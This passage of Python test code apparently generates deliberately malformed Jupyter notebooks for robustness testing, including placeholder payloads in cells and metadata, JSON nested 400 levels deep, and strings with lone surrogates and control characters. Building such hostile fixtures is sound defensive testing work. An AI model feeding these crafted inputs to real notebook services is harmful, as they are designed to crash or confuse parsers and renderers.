            {"cell_type": "code", "source": payload(key), "metadata": payload(key)},
            {"cell_type": "raw", "source": payload(key), "metadata": {"format": "text/html"}},
        ),
    )
    key = "shape-notebook"
    yield HostileNotebook(id=key, notebook={"cells": payload(key), "metadata": payload(key)})
    key = "shape-deep-json"
    deep: Any = payload(key)
    for _ in range(400):
        deep = [deep]
    yield HostileNotebook(
        id=key, notebook=_notebook(_code(_display({"application/json": deep, "x/y": deep})))
    )
    key = "shape-surrogates"
    broken = f"\ud83d \udc00 {payload(key)} \x00\x08"
    yield HostileNotebook(
        id=key,
        notebook=_notebook(
            _markdown(f"# {broken}"),
            _code(_display({"text/html": broken, "text/plain": broken, broken: broken})),
            _code(_display({"application/json": {broken: broken}}), source=broken),
        ),
    )
